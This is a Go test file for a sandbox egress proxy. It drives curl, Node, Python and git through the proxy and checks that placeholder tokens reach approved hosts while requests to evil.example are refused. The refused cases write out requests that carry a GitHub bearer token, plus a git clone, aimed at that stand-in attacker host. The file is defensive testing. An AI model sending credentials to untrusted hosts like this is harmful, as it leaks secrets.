package egress_test

import (
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/luanette/luanette/internal/sandbox/egress"
)

// run runs a real program with the program's variables and returns what it writes.
func (p *program) run(t *testing.T, name string, args ...string) string {
	t.Helper()
	if _, err := exec.LookPath(name); err != nil {
		t.Skipf("%s is not installed", name)
	}
	cmd := exec.CommandContext(t.Context(), name, args...)
	cmd.Dir = t.TempDir()
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1", "GIT_TERMINAL_PROMPT=0")
	for variable, value := range p.env {
		cmd.Env = append(cmd.Env, variable+"="+value)
	}
	out, _ := cmd.CombinedOutput()
	return string(out)
}

// nodeTunnel is how Node's libraries with support for proxies connect.
const nodeTunnel = `
const http = require("node:http"), https = require("node:https"), tls = require("node:tls");
const proxy = new URL(process.env.HTTPS_PROXY), target = process.argv[1];
const login = "Basic " + Buffer.from(proxy.username + ":" + proxy.password).toString("base64");
http.request({host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target + ":443", headers: {"Proxy-Authorization": login}})
  .on("connect", (answer, socket) => {
    if (answer.statusCode !== 200) { console.log(answer.statusCode, answer.statusMessage); socket.destroy(); return; }
    const secure = tls.connect({socket, servername: target}, () => {
      https.get({host: target, port: 443, createConnection: () => secure, headers: {Authorization: "Bearer " + process.env.GITHUB_TOKEN}},
        r => { r.setEncoding("utf8"); r.on("data", d => process.stdout.write(d)); });
    });
    secure.on("error", e => console.log(String(e)));
  }).end();`

const pythonFetch = `
import os, sys, urllib.request
address, headers = "https://" + sys.argv[1] + "/", {"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}
def show(name, fetch):
    try: print(name, fetch())
    except Exception as e: print(name, e)
show("urllib", lambda: urllib.request.urlopen(urllib.request.Request(address, headers=headers)).read().decode())
try: import requests
except ImportError: requests = None
if requests: show("requests", lambda: requests.get(address, headers=headers).text)
`

// Programs in use find the proxy by their variables, trust its certificates, show its
// refusals, and send their placeholder, for which the host gets the secret.
func TestRealClients(t *testing.T) {
	t.Parallel()
	n := newInternet(t, egress.Options{})
	answer := func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") == "Bearer "+token {
			fmt.Fprintln(w, "welcome over", r.Proto)
		} else {
			fmt.Fprintln(w, "no token")
		}
	}
	n.serve("api.example", public, 443, http.HandlerFunc(answer))
	p := n.start(true, github("api.example"), "api.example:443")
	for name, command := range map[string][]string{
		"curl":   {"curl", "-sS", "-H", "Authorization: Bearer " + p.env["GITHUB_TOKEN"], "https://HOST/"},
		"node":   {"node", "-e", nodeTunnel, "HOST"},
		"python": {"python3", "-c", pythonFetch, "HOST"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			with := func(host string) []string {
				return strings.Split(strings.ReplaceAll(strings.Join(command[1:], "\x00"), "HOST", host), "\x00")
			}
			if name == "node" { // HOST is in the script, too
				with = func(host string) []string { return []string{"-e", nodeTunnel, host} }
			}
			if got := p.run(t, command[0], with("api.example")...); !strings.Contains(got, "welcome over") || strings.Contains(got, "no token") || strings.Contains(got, "rror") {
				t.Errorf("allowed: %s", got)
			}
			if got := p.run(t, command[0], with("evil.example")...); !strings.Contains(got, "403") || strings.Contains(got, "welcome") {
				t.Errorf("refused: %s", got)
			}
		})
	}
}

// git clones with a placeholder for its password.
func TestGit(t *testing.T) {
	t.Parallel()
	n := newInternet(t, egress.Options{})
	folder := t.TempDir()
	bare := n.startWith(false, egress.Program{Name: "git", Rules: egress.All()})
	if out := bare.run(t, "git", "init", "-q", "--bare", filepath.Join(folder, "repo.git")); out != "" {
		t.Fatal(out)
	}
	if out := bare.run(t, "git", "-C", filepath.Join(folder, "repo.git"), "update-server-info"); out != "" {
		t.Fatal(out)
	}
	files := http.FileServer(http.Dir(folder))
	n.serve("git.example", public, 443, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if _, password, _ := r.BasicAuth(); password != token {
			w.Header().Set("WWW-Authenticate", "Basic")
			http.Error(w, "who are you?", http.StatusUnauthorized)
			return
		}
		files.ServeHTTP(w, r)
	}))
	p := n.start(true, github("git.example"), "git.example:443")
	if got := p.run(t, "git", "clone", "https://x-access-token:"+p.env["GITHUB_TOKEN"]+"@git.example/repo.git"); !strings.Contains(got, "empty repository") {
		t.Errorf("allowed: %s", got)
	}
	if got := p.run(t, "git", "clone", "https://evil.example/repo.git"); !strings.Contains(got, "403") {
		t.Errorf("refused: %s", got)
	}
}
